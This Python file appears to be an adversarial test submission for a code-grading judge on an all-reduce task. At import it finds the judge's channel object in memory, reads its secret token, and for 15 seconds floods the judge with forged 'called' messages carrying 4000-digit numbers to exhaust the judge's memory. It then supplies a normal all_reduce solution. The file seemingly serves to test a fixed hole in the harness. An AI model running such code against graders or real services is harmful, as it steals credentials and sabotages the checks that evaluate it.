"""Attack (all-reduce): make the judge keep what the candidate sends, with the one message the
judge still took from a judged candidate outside its checks: "called" (a call is done). The
channel's token is in this process's memory. Every claim with whole numbers for its block and call
was kept until the judge looked at claims, which it did only while a block ran: claims sent at
import, before the first block, piled up for as long as the start-up allowance lasts (840 s by
default). Each names a block of 4000 digits (under Python's limit for reading one), so that
every line of 4 KiB it writes leaves about 1.8 KiB in the judge: before the fix, the judge's
memory grew by hundreds of MiB in the 15 s this attack floods."""

import gc
import json
import os
import time

import torch.distributed as dist

FLOOD_S = 15.0
BLOCK = "9" * 4000  # digits of a whole number, written as JSON writes one


def _channel():
    return next((o for o in gc.get_objects() if type(o).__name__ == "RankChannel"), None)


_chan = _channel()
if _chan is not None:
    _line = json.dumps({"event": "called", "token": _chan._token, "task": 0, "block": 0, "call": 0})
    _lines = (_line.replace('"block": 0', '"block": ' + BLOCK) + "\n").encode() * 16
    _end = time.monotonic() + FLOOD_S
    while time.monotonic() < _end:
        os.write(_chan._fd, _lines)


def solution(x, *, group):
    out = x.clone()
    dist.all_reduce(out, group=group)
    return out
